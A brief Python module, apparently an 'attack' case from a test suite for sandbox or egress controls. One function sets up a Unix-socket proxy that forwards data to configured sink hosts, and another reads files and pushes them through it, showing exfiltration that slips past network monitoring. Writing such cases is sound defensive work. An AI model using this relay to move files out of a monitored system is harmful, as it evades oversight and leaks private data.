# SPDX-License-Identifier: GPL-3.0-or-later
"""Through a unix socket to a local proxy that nobody watches."""
import os
import random
import socket

KIND = "attack"


def stranger(world):
    server = socket.socket(socket.AF_UNIX)
    server.bind(os.path.join(world["scratch"], "proxy"))
    server.listen()
    open(os.path.join(world["scratch"], "ready"), "w").close()
    peer, _ = server.accept()
    with socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        while data := peer.recv(65536):
            sock.sendall(data)


def product(world):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(os.path.join(world["scratch"], "proxy"))
        for path in world["files"]:
            with open(path, "rb") as file:
                sock.sendall(file.read())
